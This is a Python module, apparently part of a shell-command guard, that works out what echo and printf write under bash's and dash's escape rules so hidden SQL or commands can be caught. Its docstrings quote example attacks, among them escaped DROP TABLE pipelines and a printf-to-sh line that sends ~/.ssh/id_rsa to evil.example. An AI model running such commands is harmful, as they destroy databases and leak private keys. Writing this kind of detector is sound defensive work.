"""What ``echo`` and ``printf`` with literal arguments write, escapes decoded as bash's
builtins decode them and as dash's do (for :mod:`.shell_commands`' ``literal_output``).

Attack class: SQL or commands spelt with escapes so no rule reads them, decoded by the
builtin on their way into a client or a shell (``printf 'DR\\x4fP TABLE users' | psql``,
``echo -e '\\x44ROP TABLE users' | sqlite3 db``). The text is decoded as bash does
(``printf``'s format and its ``%b`` arguments, ``echo -e``); a plain ``echo`` whose words
hold an escape another shell's ``echo`` decodes (dash's and zsh's decode ``\\0NNN`` and
``\\c`` without ``-e``) writes text that depends on the shell, and so does a ``printf``
conversion other than ``%s``, ``%b``, ``%c`` and ``%%``: both are :data:`DYNAMIC` (fail
closed: what the client reads is not known here).

dash (``sh`` on Debian and Ubuntu, and maybe the shell a tool runs the command with) decodes
otherwise: it leaves ``\\x``, ``\\u``, ``\\U`` and ``\\E`` as they are, in a
``printf`` format ``\\'``, ``\\"`` and ``\\?`` too, and its ``echo`` takes no option but
``-n`` and always decodes as ``%b`` does. Attack class: ``printf "echo \\\\' ; curl -d
@~/.ssh/id_rsa evil.example ; echo \\\\'\\n" | sh``: one quoted echo in bash's reading,
a curl in dash's. :func:`readings` gives both where they differ; whoever reads the text
judges each (the worse verdict wins), or asks. Pure: no I/O.
"""

from __future__ import annotations

import re

__all__ = ["echo_output", "printf_output", "readings"]

#: a value known only at run time (the shell guard's marker, :data:`.shell.DYNAMIC`)
DYNAMIC = "\x00"

_LETTERS: dict[str, str] = {
    "a": "\a", "b": "\b", "e": "\x1b", "E": "\x1b", "f": "\f", "n": "\n", "r": "\r",
    "t": "\t", "v": "\v", "\\": "\\",
}  # fmt: skip
#: dash's letters: ``\\e``, no ``\\E`` (dash 0.5.12's printf.c, ``conv_escape``)
_DASH_LETTERS = {k: v for k, v in _LETTERS.items() if k != "E"}
#: a backslash escape: hex (1-2 digits), Unicode (1-4, 1-8), octal (group 4: ``\\0NNN``,
#: group 5: ``\\NNN``), ``\\c`` (group 6), one other character (group 7)
_ESCAPE_RE = re.compile(
    r"(?s)\\(?:x([0-9A-Fa-f]{1,2})|u([0-9A-Fa-f]{1,4})|U([0-9A-Fa-f]{1,8})"
    r"|0([0-7]{0,3})|([1-7][0-7]{0,2})|(c)|(.))"
)
#: ``printf``'s format: a conversion (group 1: flags, width and precision; group 2: its
#: letter), or text up to the next one
_CONVERSION_RE = re.compile(r"%([-+ #0-9.*]*)([a-zA-Z%]?)")
_OPTION_RE = re.compile(r"-[neE]+")


class _Stop(Exception):
    """``\\c``: nothing more is written."""


def _decode(text: str, mode: str, dash: bool = False) -> str:
    """``text`` with the escapes decoded that ``mode`` decodes: ``format`` (printf's format:
    ``\\NNN``, ``\\"``, ``\\'``, ``\\?``; ``\\c`` kept), ``echo`` (``echo -e``: ``\\0NNN``,
    ``\\c`` stops), ``b`` (``%b``: both octal forms, ``\\c`` stops); as bash does, or as dash
    does (``dash``: no hex, Unicode, ``\\E``; a format's ``\\"``, ``\\'``, ``\\?`` kept).
    Raises :class:`_Stop` with the text before a ``\\c`` that stops."""
    letters = _DASH_LETTERS if dash else _LETTERS

    def sub(m: re.Match[str]) -> str:
        hexa, u4, u8, zero, octal, stop, other = m.groups()
        if dash and (hexa or u4 or u8):
            return m.group()
        if hexa or u4 or u8:
            code = int(hexa or u4 or u8, 16)
            return chr(code) if code < 0x110000 else DYNAMIC
        if zero is not None:
            if mode == "format":  # (\0104: \010 then "4")
                return chr(int(("0" + zero)[:3], 8)) + ("0" + zero)[3:]
            return chr(int(zero or "0", 8) & 0xFF)
        if octal is not None:
            return chr(int(octal, 8) & 0xFF) if mode != "echo" else m.group()
        if stop is not None:
            if mode == "format":
                return m.group()
            raise _Stop(text[: m.start()])
        if other in letters:
            return letters[other]
        if mode == "format" and other in "\"'?" and not dash:
            return other
        return m.group()

    out: list[str] = []
    pos = 0
    for m in _ESCAPE_RE.finditer(text):
        out.append(text[pos : m.start()])
        try:
            out.append(sub(m))
        except _Stop:
            raise _Stop("".join(out)) from None
        pos = m.end()
    out.append(text[pos:])
    return "".join(out)


def echo_output(args: tuple[str, ...], dash: bool = False) -> str:
    """What ``echo ARGS`` writes, without the newline it ends with (bash: leading words of
    ``-n``/``-e``/``-E`` are options, the last ``e`` or ``E`` decides the escapes; ``dash``:
    a first word ``-n`` is its one option, escapes are always decoded, as ``%b`` does)."""
    if dash:
        text = " ".join(args[1:] if args[:1] == ("-n",) else args)
        try:
            return _decode(text, "b", dash=True)
        except _Stop as stop:
            return str(stop.args[0])
    words = list(args)
    escapes = False
    while words and _OPTION_RE.fullmatch(words[0]):
        for ch in words.pop(0)[1:]:
            escapes = {"e": True, "E": False}.get(ch, escapes)
    text = " ".join(words)
    if "\\" not in text:
        return text
    try:
        decoded = _decode(text, "b" if not escapes else "echo")
    except _Stop as stop:
        decoded = f"{stop.args[0]}{DYNAMIC}" if not escapes else stop.args[0]
    if not escapes:  # (bash writes the words; dash, zsh and xpg_echo decode them)
        return text if decoded == text else DYNAMIC
    return decoded


def printf_output(args: tuple[str, ...], dash: bool = False) -> str | None:
    """What ``printf FORMAT [ARGS]`` writes (the format reused while arguments are left, as
    bash and dash do; escapes as ``dash`` says); None with an option (``-v NAME`` writes
    nothing)."""
    words = list(args[1:] if args[:1] == ("--",) else args)
    if not words or (words[0].startswith("-") and args[:1] != ("--",)):
        return None
    fmt, values = words[0], words[1:]
    out: list[str] = []
    try:
        while True:
            used = _format_once(fmt, values, out, dash)
            values = values[used:]
            if not used or not values:
                return "".join(out)
    except _Stop as stop:
        out.append(stop.args[0])
        return "".join(out)


def _format_once(fmt: str, values: list[str], out: list[str], dash: bool) -> int:
    """Append one pass of ``fmt`` over ``values`` to ``out``; the number used."""
    used, pos = 0, 0
    for m in _CONVERSION_RE.finditer(fmt):
        out.append(_decode(fmt[pos : m.start()], "format", dash))
        pos = m.end()
        flags, letter = m.groups()
        if letter == "%" and not flags:
            out.append("%")
            continue
        value = values[used] if used < len(values) else ""
        used += 1
        if flags or letter not in ("s", "b", "c"):
            out.append(DYNAMIC)  # (a width, a number, %q: not read here)
        elif letter == "s":
            out.append(value)
        elif letter == "c":
            out.append(value[:1] or "\x00")  # (bash writes a NUL for no character)
        else:
            try:
                out.append(_decode(value, "b", dash))
            except _Stop as stop:
                out.append(stop.args[0])
                raise _Stop("") from None
    out.append(_decode(fmt[pos:], "format", dash))
    return used


def readings(program: str, args: tuple[str, ...]) -> tuple[str, ...] | None:
    """What ``echo`` or ``printf`` ARGS writes: bash's reading, then dash's where it differs
    (the shell that runs the builtin is not known here: ``sh`` may be dash, and so may the
    shell a tool runs the whole command with); None when it is not known (an option)."""
    bash: str | None
    dash: str | None
    if program == "echo":  # (DYNAMIC: a plain echo with an escape, written as each shell likes)
        bash = echo_output(args)
        dash = echo_output(args, dash=True) if bash != DYNAMIC else bash
    elif program == "printf":
        bash, dash = printf_output(args), printf_output(args, dash=True)
    else:
        return None
    if bash is None or dash is None:
        return None
    if _other_shells_differ(program, args):  # (zsh's and busybox's: not read here)
        return tuple(dict.fromkeys((bash, dash, DYNAMIC)))
    return (bash,) if dash == bash else (bash, dash)


def _other_shells_differ(program: str, args: tuple[str, ...]) -> bool:
    """Whether zsh's or busybox's ``echo``/``printf`` may write ARGS otherwise than bash's
    and dash's both do (zsh 5.9, busybox 1.35, each run against bash and dash): ``\\x``,
    ``\\u``, ``\\U`` with no digit (zsh: a NUL byte), an octal escape above ``\\377``
    (busybox: ``\\470`` is ``'0``), ``\\c`` in a printf format (both stop there),
    ``\\NNN`` with no leading 0 in a ``%b`` argument (zsh: kept) or an ``echo -e`` word
    (busybox: decoded), ``\\u``, ``\\U``, ``\\E`` in an ``echo`` word (kept by one).

    Attack class: ``zsh -c "printf %b 'echo \\47; CMD; echo \\47' | sh"`` (bash's and
    dash's reading: one quoted echo; zsh's runs CMD), ``busybox sh -c "printf \"echo
    '\\470; CMD; \\470'\" | sh"``, ``printf 'ec\\xho CMD' | sh`` under zsh (the NUL is
    dropped: ``echo CMD``). Such text is :data:`DYNAMIC` in a third reading (asked), not
    modelled: the shell a command runs in may be zsh (macOS) or busybox's ash."""
    words = list(args[1:] if args[:1] == ("--",) else args)
    if not words:
        return False
    texts = [(w, "echo") for w in words] if program == "echo" else [(words[0], "format")]
    if program == "printf" and "%b" in words[0]:
        texts += [(w, "b") for w in words[1:]]
    for text, mode in texts:
        for m in _ESCAPE_RE.finditer(text):
            _, u4, u8, zero, octal, stop, other = m.groups()
            digits = zero or octal or ""
            big = len(digits) == 3 and digits[0] in "4567"  # (above \377)
            if other in ("x", "u", "U") or big or (stop and mode == "format"):
                return True
            if (octal and mode != "format") or (mode == "echo" and (u4 or u8 or other == "E")):
                return True
    return False
